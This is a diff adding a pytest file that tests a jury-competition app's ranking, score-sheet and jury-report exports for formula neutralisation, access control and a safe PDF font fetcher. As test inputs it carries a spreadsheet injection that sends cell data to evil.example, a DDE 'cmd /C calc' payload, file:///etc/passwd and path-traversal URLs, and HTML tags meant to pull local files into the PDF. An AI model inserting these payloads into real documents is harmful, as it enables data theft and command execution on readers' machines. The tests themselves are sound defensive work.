@@ -1,0 +1,273 @@
+"""CSV, XLSX and PDF exports of the ranking, the score sheets and the jury report."""
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+from pypdf import PdfReader
+from sqlalchemy import select
+
+from app.judging.models import CriterionScore, ScoreSheet
+from app.ranking import services
+from app.ranking.exports import FONTS_DIR, ReportFetcher, ReportFileRefused, neutralise
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+EXPORTS = ("ranking.csv", "ranking.xlsx", "sheets.csv", "sheets.xlsx", "jury-report.pdf")
+
+
+@pytest.fixture
+def hostile(small, db):
+    """Obrnice renamed to a formula, and a juror's comment that a spreadsheet would run."""
+    small.entries["A"].organisation.name = HOSTILE_NAME
+    sheet = db.session.scalars(select(ScoreSheet).where(ScoreSheet.overall_comment == "")).first()
+    sheet.overall_comment = "+cmd|' /C calc'!A0"
+    first = db.session.scalars(select(CriterionScore).where(CriterionScore.sheet_id == sheet.id)).first()
+    first.comment = "@SUM(1+1)"
+    db.session.commit()
+    return small
+
+
+def export_url(small, name: str) -> str:
+    return f"/manage/editions/{small.edition.id}/{name}"
+
+
+def read_csv(response) -> list[list[str]]:
+    text = response.get_data().decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Obrnice", "Obrnice"),
+        ("", ""),
+        (-2, -2),
+        (None, None),
+    ],
+)
+def test_neutralise_formula_like_text_only(value, expected):
+    assert neutralise(value) == expected
+
+
+def test_ranking_csv_content_and_neutralised_name(client, auth, hostile):
+    auth.login(hostile.organiser.email)
+
+    response = client.get(export_url(hostile, "ranking.csv"))
+
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert (
+        response.headers["Content-Disposition"]
+        == f'attachment; filename="{hostile.edition.slug}-ranking.csv"'
+    )
+    rows = read_csv(response)
+    assert rows[0][:9] == [
+        "Rank",
+        "Reference",
+        "Organisation",
+        "Country",
+        "Aggregate (mean)",
+        "Mean: Integration",
+        "Mean: Anti-discrimination",
+        "Mean: Awareness-raising",
+        "Sheets",
+    ]
+    assert rows[1][:11] == [
+        "1",
+        hostile.entries["A"].reference,
+        "'" + HOSTILE_NAME,
+        "Czech Republic",
+        "9.000",
+        "9.333",
+        "9.000",
+        "8.667",
+        "3",
+        "no",
+        "0.816",
+    ]
+    kocaeli = next(row for row in rows if row[2] == "Kocaeli")
+    assert kocaeli[-2] == "no"
+    assert "drops to 4th without Juror Two" in kocaeli[-1]
+    assert [row[2] for row in rows[1:]] == [
+        "'" + HOSTILE_NAME,
+        "Ηράκλειο",
+        "Kocaeli",
+        "Demo Municipality 4",
+        "Demo Municipality 5",
+    ]
+
+
+def test_ranking_csv_under_another_method(client, auth, small):
+    auth.login(small.organiser.email)
+
+    rows = read_csv(client.get(export_url(small, "ranking.csv") + "?method=median"))
+
+    assert rows[0][4] == "Aggregate (median)"
+    assert [row[2] for row in rows[1:4]] == ["Obrnice", "Ηράκλειο", "Demo Municipality 4"]
+
+
+def test_sheets_csv_lists_every_sheet_and_neutralises_comments(client, auth, hostile):
+    auth.login(hostile.organiser.email)
+
+    rows = read_csv(client.get(export_url(hostile, "sheets.csv")))
+
+    header = rows[0]
+    assert header[:9] == [
+        "Reference",
+        "Organisation",
+        "Country",
+        "Juror",
+        "Juror's country",
+        "Status",
+        "Recused",
+        "Submitted (Strasbourg time)",
+        "Total",
+    ]
+    assert len(rows) == 1 + 16  # 14 counted, one recused, one draft
+    overall = header.index("Overall comment")
+    comments = [row[overall] for row in rows[1:]]
+    assert "'+cmd|' /C calc'!A0" in comments
+    assert "+cmd|' /C calc'!A0" not in comments
+    assert any("'@SUM(1+1)" in row for row in rows[1:])
+    four = [row for row in rows[1:] if row[3] == "Juror Four"]
+    assert sorted((row[5], row[6]) for row in four) == [("draft", "no"), ("submitted", "yes")]
+    first = next(
+        row for row in rows[1:] if row[3] == "Juror One" and row[0] == hostile.entries["A"].reference
+    )
+    assert [first[8], first[9], first[11], first[13]] == ["9.000", "10.00", "9.00", "8.00"]
+
+
+def test_ranking_xlsx_keeps_formula_as_text(client, auth, hostile):
+    auth.login(hostile.organiser.email)
+
+    response = client.get(export_url(hostile, "ranking.xlsx"))
+
+    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    assert sheet.title == "Ranking"
+    assert sheet["C2"].value == "'" + HOSTILE_NAME
+    assert sheet["C2"].data_type == "s"
+    assert sheet["A2"].value == 1
+    assert sheet["E2"].value == 9.0
+    assert sheet["C3"].value == "Ηράκλειο"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_sheets_xlsx_keeps_comment_as_text(client, auth, hostile):
+    auth.login(hostile.organiser.email)
+
+    sheet = load_workbook(io.BytesIO(client.get(export_url(hostile, "sheets.xlsx")).get_data())).active
+
+    values = [cell.value for row in sheet.iter_rows() for cell in row]
+    assert sheet.title == "Score sheets"
+    assert "'+cmd|' /C calc'!A0" in values
+    assert "'" + HOSTILE_NAME in values
+    assert sheet.max_row == 17
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_jury_report_pdf_holds_ranking_decisions_and_justification(client, auth, small, app, db):
+    why = "The jury preferred the steadier scores of Demo Municipality 4 (Juror Two disagreed)."
+    decisions = [
+        services.AwardDecision(small.id_of("A"), "prize", 1, "Obrnice brings Roma and non-Roma together."),
+        services.AwardDecision(small.id_of("B"), "prize", 2, "Heraklion fights illiteracy."),
+        services.AwardDecision(small.id_of("D"), "prize", 3, "A steady project."),
+    ]
+    with app.test_request_context():
+        services.record_awards(
+            small.edition, services.load_scores(small.edition), decisions, why, small.organiser
+        )
+    db.session.commit()
+    auth.login(small.organiser.email)
+
+    response = client.get(export_url(small, "jury-report.pdf"))
+
+    assert response.status_code == 200
+    assert response.mimetype == "application/pdf"
+    pdf = response.get_data()
+    assert pdf.startswith(b"%PDF")
+    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(pdf)).pages)
+    assert why in text
+    assert "Jury report" in text
+    assert "Obrnice brings Roma and non-Roma together." in text
+    assert "Ηράκλειο" in text
+    assert "Kocaeli" in text
+    assert "is ranked 3rd but receives no place" in text
+    assert "drops to 4th without Juror Two" in text
+    assert "Juror One, chair of the jury" in text
+    assert "Confidential until the results are published." in text
+
+
+def test_jury_report_fonts_embedded_from_app(client, auth, small):
+    auth.login(small.organiser.email)
+
+    reader = PdfReader(io.BytesIO(client.get(export_url(small, "jury-report.pdf")).get_data()))
+
+    fonts = set()
+    for page in reader.pages:
+        for font in page["/Resources"]["/Font"].values():
+            font = font.get_object()
+            fonts.add(str(font["/BaseFont"]))
+            descendant = font.get("/DescendantFonts")
+            descriptor = (descendant[0].get_object() if descendant else font)["/FontDescriptor"].get_object()
+            assert any(key in descriptor for key in ("/FontFile", "/FontFile2", "/FontFile3"))
+    # Only the shipped Noto Serif (named Report Serif by the report's @font-face), never a system font.
+    assert {name.split("+", 1)[1] for name in fonts} == {"Report-Serif", "Report-Serif-Bold"}
+
+
+@pytest.mark.parametrize("name", EXPORTS)
+def test_exports_refused_to_non_organisers(client, auth, small, name):
+    anonymous = client.get(export_url(small, name))
+    statuses = []
+    for user in (small.applicants["A"], small.jurors["one"], small.jurors["two"]):
+        auth.login(user.email)
+        statuses.append(client.get(export_url(small, name)).status_code)
+        auth.logout()
+
+    assert anonymous.status_code == 302
+    assert statuses == [403, 403, 403]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1:9/x.ttf",
+        "https://example.org/font.ttf",
+        "file:///etc/passwd",
+        "file:///etc/fonts/fonts.conf",
+        (FONTS_DIR / ".." / ".." / ".." / ".." / "config.py").as_uri(),
+        FONTS_DIR.as_uri() + "/OFL.txt",
+        "data:text/css,body{}",
+    ],
+)
+def test_report_fetcher_refuses_anything_but_app_files(url):
+    with pytest.raises(ReportFileRefused):
+        ReportFetcher().fetch(url)
+
+
+def test_report_fetcher_serves_shipped_font():
+    response = ReportFetcher().fetch((FONTS_DIR / "NotoSerif-Regular.ttf").as_uri())
+
+    assert response.headers["Content-Type"] == "font/ttf"
+
+
+def test_jury_report_hostile_organisation_name_is_text(client, auth, small, db):
+    hostile = '<img src="http://127.0.0.1:9/x"><link rel=attachment href="file:///etc/passwd">Evil'
+    small.entries["B"].organisation.name = hostile
+    db.session.commit()
+    auth.login(small.organiser.email)
+
+    pdf = client.get(export_url(small, "jury-report.pdf")).get_data()
+
+    reader = PdfReader(io.BytesIO(pdf))
+    text = " ".join(page.extract_text() for page in reader.pages)
+    # the table wraps the name over several lines: compare without any whitespace
+    assert '<imgsrc="http://127.0.0.1:9/x"><linkrel=attachment' in "".join(text.split())
+    assert "/EmbeddedFiles" not in str(reader.trailer["/Root"])
